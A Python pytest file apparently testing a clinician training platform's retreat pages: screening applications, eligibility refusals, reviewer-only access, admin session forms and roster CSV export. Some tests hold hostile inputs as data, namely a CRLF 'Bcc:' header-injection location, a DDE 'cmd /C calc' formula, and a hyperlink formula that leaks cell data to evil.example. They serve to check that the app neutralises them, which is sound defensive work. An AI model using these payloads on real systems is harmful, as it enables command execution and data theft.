"""Retreat pages: apply with screening, refusals as messages, review, roster, CSV, access."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from clock_support import programme_today
from icalendar import Calendar
from retreats_support import add_session, complete, screening_form
from sqlalchemy import func, select

from lms.audit.models import AuditEvent
from lms.auth.models import Role
from lms.offerings.models import Enrolment, EnrolmentStatus
from lms.retreats.models import Screening


@pytest.fixture
def clinician(session, make_user, catalog):
    """A licensed clinician who completed Module 1 (Level 1 retreat open)."""
    user = make_user(Role.CLINICIAN, name="Cleo Clinician")
    complete(session, user.id, "M1")
    return user


@pytest.fixture
def retreat_session(session, catalog):
    """An upcoming Level 1 session with two places."""
    return add_session(session, capacity=2, location="Portland, OR")


def _client(app, login, user):
    """A fresh client signed in as the user."""
    return login(app.test_client(), user)


def _applications(session):
    """How many applications exist."""
    session.expire_all()
    return session.scalar(select(func.count()).select_from(Enrolment))


def test_clinician_applies_with_the_screening_and_lands_in_medical_review(
    app, login, session, clinician, retreat_session
):
    client = _client(app, login, clinician)
    page = client.get(f"/retreats/sessions/{retreat_session.id}/apply")
    assert page.status_code == 200
    assert "Sleep apnea" in page.text and "Anything else a physician should know" in page.text
    response = client.post(
        f"/retreats/sessions/{retreat_session.id}/apply",
        data=screening_form(),
        follow_redirects=True,
    )
    assert response.status_code == 200
    assert "A medical reviewer will look at your screening" in response.text
    application = session.scalar(select(Enrolment))
    assert application.status == EnrolmentStatus.MEDICAL_REVIEW and application.low_risk
    assert "In medical review" in client.get("/retreats/").text


def test_posting_the_form_when_not_eligible_is_refused_with_the_explanation(
    app, login, session, make_user, retreat_session
):
    newcomer = make_user(Role.CLINICIAN)
    client = _client(app, login, newcomer)
    assert "Module 1" in client.get(f"/retreats/sessions/{retreat_session.id}/apply").text
    response = client.post(f"/retreats/sessions/{retreat_session.id}/apply", data=screening_form())
    assert response.status_code == 409
    assert "Module 1" in response.text
    assert _applications(session) == 0


def test_a_refused_apply_page_sets_out_the_ways_in_and_links_to_asking_for_credit(
    app, login, session, make_user, retreat_session
):
    """Locked for want of Module 1: the ways in as a list, and credit for outside training."""
    page = _client(app, login, make_user(Role.CLINICIAN)).get(
        f"/retreats/sessions/{retreat_session.id}/apply"
    )
    assert page.status_code == 200
    assert "You cannot apply yet." in page.text and "Do one of these:" in page.text
    assert "<li>Complete Module 1</li>" in page.text
    assert 'href="/equivalency/new">Ask for credit</a>' in page.text
    assert 'name="anything_else"' not in page.text  # no screening form to fill in vain


def test_no_credit_is_offered_where_only_the_licence_is_missing(
    app, login, session, make_user, retreat_session
):
    trainee = make_user(Role.CLINICIAN, licensed=False)
    complete(session, trainee.id, "M1")
    client = _client(app, login, trainee)
    page = client.get(f"/retreats/sessions/{retreat_session.id}/apply").text
    assert "pre-licensed" in page and "Ask for credit" not in page
    retreats = client.get("/retreats/").text
    level1 = retreats.split('data-retreat="RETREAT-L1"', 1)[1].split("</section>", 1)[0]
    assert "Ask for credit" not in level1


def test_pre_licensed_clinician_is_refused(app, login, session, make_user, retreat_session):
    trainee = make_user(Role.CLINICIAN, licensed=False)
    complete(session, trainee.id, "M1")
    response = _client(app, login, trainee).post(
        f"/retreats/sessions/{retreat_session.id}/apply", data=screening_form()
    )
    assert response.status_code == 409 and "pre-licensed" in response.text
    assert _applications(session) == 0


def test_past_deadline_is_refused(app, login, session, clinician, catalog):
    closed = add_session(session, starts_in=30, deadline_in=-2)
    response = _client(app, login, clinician).post(
        f"/retreats/sessions/{closed.id}/apply", data=screening_form()
    )
    assert response.status_code == 409 and "deadline" in response.text
    assert _applications(session) == 0


def test_double_application_is_refused(app, login, session, clinician, retreat_session):
    client = _client(app, login, clinician)
    url = f"/retreats/sessions/{retreat_session.id}/apply"
    assert client.post(url, data=screening_form()).status_code == 302
    response = client.post(url, data=screening_form())
    assert response.status_code == 409 and "already applied" in response.text
    assert _applications(session) == 1


def test_unanswered_screening_question_is_refused(app, login, session, clinician, retreat_session):
    data = screening_form()
    del data["psychosis-answer"]
    response = _client(app, login, clinician).post(
        f"/retreats/sessions/{retreat_session.id}/apply", data=data
    )
    assert response.status_code == 422 and "Answer yes or no" in response.text
    assert _applications(session) == 0


def test_missing_screening_key_refuses_with_a_clear_message(
    app_config, session, make_user, catalog, login
):
    from lms import create_app

    app_config["LMS_SCREENING_KEY"] = None
    keyless = create_app(app_config)
    try:
        with keyless.app_context():
            from lms.db import db

            user = make_user(Role.CLINICIAN)
            complete(session, user.id, "M1")
            retreat_session = add_session(session)
            client = login(keyless.test_client(), user)
            response = client.post(
                f"/retreats/sessions/{retreat_session.id}/apply", data=screening_form()
            )
            assert response.status_code == 503 and "LMS_SCREENING_KEY" in response.text
            assert db.session.scalar(select(func.count()).select_from(Enrolment)) == 0
    finally:
        keyless.extensions["lms"].db.engine.dispose()


def test_full_session_waitlists_the_cleared_applicant_and_withdrawal_promotes(
    app, login, session, make_user, catalog
):
    full = add_session(session, capacity=1)
    reviewer = _client(app, login, make_user(Role.MEDICAL_REVIEWER))
    people = []
    for _ in range(2):
        person = make_user(Role.CLINICIAN)
        complete(session, person.id, "M1")
        client = _client(app, login, person)
        client.post(f"/retreats/sessions/{full.id}/apply", data=screening_form())
        people.append((person, client))
    ids = [a.id for a in session.scalars(select(Enrolment).order_by(Enrolment.id))]
    for application_id in ids:
        reviewer.get(f"/retreats/review/{application_id}")
        assert (
            reviewer.post(f"/retreats/review/{application_id}", data={"decision": "clear"})
        ).status_code == 302
    second_view = people[1][1].get("/retreats/").text
    assert "Waitlisted" in second_view and "position 1" in second_view
    people[0][1].post(f"/retreats/applications/{ids[0]}/withdraw")
    session.expire_all()
    assert session.get(Enrolment, ids[1]).status == EnrolmentStatus.ENROLLED


def test_a_second_reviewer_deciding_is_told_who_decided(
    app, login, session, make_user, clinician, retreat_session
):
    _client(app, login, clinician).post(
        f"/retreats/sessions/{retreat_session.id}/apply", data=screening_form()
    )
    application = session.scalar(select(Enrolment))
    first = _client(app, login, make_user(Role.MEDICAL_REVIEWER, name="Dr First"))
    second = _client(app, login, make_user(Role.MEDICAL_REVIEWER, name="Dr Second"))
    first.post(f"/retreats/review/{application.id}", data={"decision": "not_clear"})
    response = second.post(
        f"/retreats/review/{application.id}", data={"decision": "clear"}, follow_redirects=True
    )
    assert "already decided by Dr First on" in response.text
    session.expire_all()
    assert session.get(Enrolment, application.id).status == EnrolmentStatus.NOT_CLEARED


def test_screening_page_is_for_medical_reviewers_only_and_never_cached(
    app, login, session, make_user, clinician, retreat_session
):
    _client(app, login, clinician).post(
        f"/retreats/sessions/{retreat_session.id}/apply", data=screening_form()
    )
    application = session.scalar(select(Enrolment))
    url = f"/retreats/review/{application.id}"
    for role in (Role.ADMIN, Role.INSTRUCTOR, Role.CLINICIAN):
        assert _client(app, login, make_user(role)).get(url).status_code == 403
    assert _client(app, login, make_user(Role.ADMIN)).get("/retreats/review").status_code == 403
    reviewer = make_user(Role.MEDICAL_REVIEWER)
    response = _client(app, login, reviewer).get(url)
    assert response.status_code == 200
    assert "no-store" in response.headers["Cache-Control"]
    viewed = session.scalar(select(AuditEvent).where(AuditEvent.action == "screening.viewed"))
    assert viewed.actor_id == reviewer.id and viewed.person_id == clinician.id


def _days(start: date, count: int = 5) -> str:
    """The offering form's days text: one line per day, no hours."""
    return "\n".join((start + timedelta(days=n)).isoformat() for n in range(count))


def test_admin_creates_and_edits_a_session_and_cannot_cut_capacity_below_accepted(
    app, login, session, make_user, clinician, catalog
):
    admin = _client(app, login, make_user(Role.ADMIN))
    start = programme_today() + timedelta(days=90)
    form = {
        "item_code": "RETREAT-L1",
        "format": "in_person",
        "days": _days(start),
        "location": "Asheville, NC",
        "capacity": "1",
        "enrolment_deadline": (start - timedelta(days=30)).isoformat(),
    }
    assert admin.post("/offerings/new", data=form).status_code == 302
    from lms.offerings.models import Offering

    created = session.scalar(select(Offering).where(Offering.location == "Asheville, NC"))
    assert (created.starts_on, created.ends_on) == (start, start + timedelta(days=4))
    assert len(created.days) == 5
    _client(app, login, clinician).post(
        f"/retreats/sessions/{created.id}/apply", data=screening_form()
    )
    application = session.scalar(select(Enrolment))
    _client(app, login, make_user(Role.MEDICAL_REVIEWER)).post(
        f"/retreats/review/{application.id}", data={"decision": "clear"}
    )
    response = admin.post(f"/offerings/{created.id}/edit", data={**form, "capacity": "0"})
    assert response.status_code == 409 and "cannot be lower" in response.text
    session.expire_all()
    assert session.get(Offering, created.id).capacity == 1
    bad = admin.post("/offerings/new", data={**form, "days": f"{start}\nnext tuesday"})
    assert bad.status_code == 422 and "Days, line 2" in bad.text


def _session_rows(session):
    """Every offering row as plain values (what a refused form must leave alone)."""
    from lms.offerings.models import Offering

    session.expire_all()
    return sorted(
        (s.id, s.item_id, s.starts_on, s.ends_on, s.location, s.capacity, s.status)
        for s in session.scalars(select(Offering))
    )


def test_a_duplicate_session_is_a_form_error_that_changes_nothing(
    app, login, session, make_user, catalog
):
    """Same retreat, first day and location (after trimming): a clear 409, not a 500."""
    admin = _client(app, login, make_user(Role.ADMIN))
    start = programme_today() + timedelta(days=90)
    form = {
        "item_code": "RETREAT-L1",
        "format": "in_person",
        "days": _days(start),
        "location": "Asheville, NC",
        "capacity": "8",
    }
    assert admin.post("/offerings/new", data=form).status_code == 302
    other = {**form, "location": "Ojai, CA"}
    assert admin.post("/offerings/new", data=other).status_code == 302
    before = _session_rows(session)
    audit_before = session.scalar(select(func.count()).select_from(AuditEvent))

    again = admin.post("/offerings/new", data={**form, "location": "  Asheville, NC "})
    assert again.status_code == 409
    assert "already has an offering starting" in again.text and "Asheville, NC" in again.text
    assert 'name="location"' in again.text  # the form is shown again, filled in
    # Editing the Ojai session onto Asheville's day and place is refused the same way.
    ojai = next(row for row in before if row[4] == "Ojai, CA")
    moved = admin.post(f"/offerings/{ojai[0]}/edit", data=form)
    assert moved.status_code == 409 and "already has an offering starting" in moved.text
    assert _session_rows(session) == before
    assert session.scalar(select(func.count()).select_from(AuditEvent)) == audit_before


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"days": "0001-01-01"}, "between Jan 1, 1900"),
        ({"days": "9999-12-27"}, "between Jan 1, 1900"),
        ({"location": "\u200b\u200b"}, "Enter where the offering takes place"),
        ({"location": "Ojai\x00"}, "without line breaks"),
        ({"location": "Ojai\r\nBcc: x@evil.example"}, "without line breaks"),
    ],
    ids=["year-one", "year-9999", "zero-width-location", "nul-location", "crlf-location"],
)
def test_session_form_refuses_absurd_dates_and_unprintable_locations(
    app, login, session, make_user, catalog, change, message
):
    admin = _client(app, login, make_user(Role.ADMIN))
    start = programme_today() + timedelta(days=90)
    form = {
        "item_code": "RETREAT-L1",
        "format": "in_person",
        "days": _days(start),
        "location": "Asheville, NC",
        "capacity": "8",
    }
    before = _session_rows(session)
    response = admin.post("/offerings/new", data={**form, **change})
    assert response.status_code == 422
    assert message in response.text
    assert _session_rows(session) == before


def test_session_management_is_for_admins_and_rosters_for_staff(
    app, login, make_user, retreat_session
):
    instructor = _client(app, login, make_user(Role.INSTRUCTOR))
    clinician = _client(app, login, make_user(Role.CLINICIAN))
    assert instructor.get("/offerings/manage").status_code == 200
    assert instructor.get("/offerings/new").status_code == 403
    assert instructor.get(f"/retreats/sessions/{retreat_session.id}/roster").status_code == 200
    assert clinician.get("/offerings/manage").status_code == 403
    assert clinician.get(f"/retreats/sessions/{retreat_session.id}/roster").status_code == 403
    assert clinician.get(f"/retreats/sessions/{retreat_session.id}/roster.csv").status_code == 403


def test_calendar_download_is_a_valid_all_day_event(app, login, make_user, retreat_session):
    response = _client(app, login, make_user(Role.CLINICIAN)).get(
        f"/offerings/{retreat_session.id}.ics"
    )
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/calendar")
    assert "attachment" in response.headers["Content-Disposition"]
    (event_,) = Calendar.from_ical(response.data).walk("VEVENT")
    assert event_.decoded("dtstart") == retreat_session.starts_on
    assert event_.decoded("dtend") == retreat_session.ends_on + timedelta(days=1)
    assert str(event_["location"]) == "Portland, OR"


def test_attendance_after_the_session_records_completion_and_unlocks_the_advanced_retreat(
    app, login, session, make_user, clinician, retreat_session
):
    _client(app, login, clinician).post(
        f"/retreats/sessions/{retreat_session.id}/apply", data=screening_form()
    )
    application = session.scalar(select(Enrolment))
    _client(app, login, make_user(Role.MEDICAL_REVIEWER)).post(
        f"/retreats/review/{application.id}", data={"decision": "clear"}
    )
    instructor = _client(app, login, make_user(Role.INSTRUCTOR))
    early = instructor.post(
        f"/retreats/applications/{application.id}/attendance",
        data={"outcome": "attended", "session_id": retreat_session.id},
        follow_redirects=True,
    )
    assert "Attendance can be marked from the session" in early.text
    session.expire_all()
    retreat_session = session.get(type(retreat_session), retreat_session.id)
    retreat_session.starts_on = programme_today() - timedelta(days=6)
    retreat_session.ends_on = programme_today() - timedelta(days=2)
    session.commit()
    marked = instructor.post(
        f"/retreats/applications/{application.id}/attendance",
        data={"outcome": "attended", "session_id": retreat_session.id},
    )
    assert marked.status_code == 302
    page = _client(app, login, clinician).get("/retreats/").text
    advanced = page.split('data-retreat="RETREAT-ADV"', 1)[1].split("</section>", 1)[0]
    assert "Open" in advanced


def test_roster_and_csv_show_statuses_and_the_decision_only(
    app, login, session, make_user, clinician, retreat_session
):
    marker = "CSV-HEALTH-MARKER-1913"
    _client(app, login, clinician).post(
        f"/retreats/sessions/{retreat_session.id}/apply",
        data=screening_form(yes=("psychosis",), detail=marker, anything_else=marker),
    )
    application = session.scalar(select(Enrolment))
    _client(app, login, make_user(Role.MEDICAL_REVIEWER)).post(
        f"/retreats/review/{application.id}", data={"decision": "clear"}
    )
    instructor = _client(app, login, make_user(Role.INSTRUCTOR))
    roster = instructor.get(f"/retreats/sessions/{retreat_session.id}/roster")
    assert "Cleo Clinician" in roster.text and "Cleared" in roster.text
    exported = instructor.get(f"/retreats/sessions/{retreat_session.id}/roster.csv")
    assert exported.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows[0]["status"] == "Enrolled" and rows[0]["screening_decision"] == "Cleared"
    assert marker not in exported.text and marker not in roster.text
    assert "psychosis" not in exported.text.lower() and "low" not in rows[0]


def test_roster_csv_neutralises_every_cell_a_spreadsheet_would_run(
    app, login, session, make_user, catalog, retreat_session
):
    evil = make_user(
        Role.CLINICIAN,
        name="=cmd|' /C calc'!A0",
        credentials="+LCSW",
        email='=hyperlink("http://evil.example/"&a2,"x")@evil.example',
        licence_type="@SUM(1)",
    )
    complete(session, evil.id, "M1")
    response = _client(app, login, evil).post(
        f"/retreats/sessions/{retreat_session.id}/apply", data=screening_form()
    )
    assert response.status_code in (200, 302)
    instructor = _client(app, login, make_user(Role.INSTRUCTOR))
    exported = instructor.get(f"/retreats/sessions/{retreat_session.id}/roster.csv")
    rows = list(csv.reader(io.StringIO(exported.text)))
    assert rows[1][:4] == [
        "'=cmd|' /C calc'!A0",
        "'+LCSW",
        "'" + evil.email,
        "'@SUM(1) " + evil.licence_number + " CA",
    ]
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_retreats_page_runs_a_constant_number_of_queries(
    app, login, session, make_user, catalog, engine, count_queries
):
    clinician = make_user(Role.CLINICIAN)
    complete(session, clinician.id, "M1")
    client = _client(app, login, clinician)

    def queries() -> int:
        with count_queries() as statements:
            assert client.get("/retreats/").status_code == 200
        # Transaction control (BEGIN, and on PostgreSQL the session timeouts a request sets)
        # depends on pooled connection and session state, not on the page.
        control = ("BEGIN", "SET lock_timeout", "RESET lock_timeout")
        return len([s for s in statements if not s.startswith(control)])

    queries()  # warm-up: first-request work is not what this test measures
    without_applications = queries()
    first = add_session(session, starts_in=39, location="Place first")
    client.post(f"/retreats/sessions/{first.id}/apply", data=screening_form())
    # Holding an application costs its read (one person who holds none is spared it) ...
    before = queries()
    assert before == without_applications + 1
    for n in range(4):
        extra = add_session(session, starts_in=40 + n, location=f"Place {n}")
        client.post(f"/retreats/sessions/{extra.id}/apply", data=screening_form())
    assert session.scalar(select(func.count()).select_from(Screening)) == 5
    # ... and holding more costs nothing more.
    assert queries() == before


def test_retreats_page_lists_sessions_even_when_locked_but_offers_no_apply_link(
    app, login, session, make_user, catalog
):
    newcomer = make_user(Role.CLINICIAN)
    upcoming = add_session(session, location="Sedona, AZ")
    page = _client(app, login, newcomer).get("/retreats/").text
    level1 = page.split('data-retreat="RETREAT-L1"', 1)[1].split("</section>", 1)[0]
    assert "Locked" in level1 and "Module 1" in level1 and "Sedona, AZ" in level1
    assert f"/retreats/sessions/{upcoming.id}/apply" not in level1


@pytest.mark.usefixtures("awkward_instant")
def test_sessions_past_their_deadline_say_applications_are_closed(
    app, login, session, clinician, catalog
):
    closed = add_session(session, starts_in=30, deadline_in=-1, location="Closed Town")
    page = _client(app, login, clinician).get("/retreats/").text
    level1 = page.split('data-retreat="RETREAT-L1"', 1)[1].split("</section>", 1)[0]
    assert "applications closed" in level1
    assert f"/retreats/sessions/{closed.id}/apply" not in level1
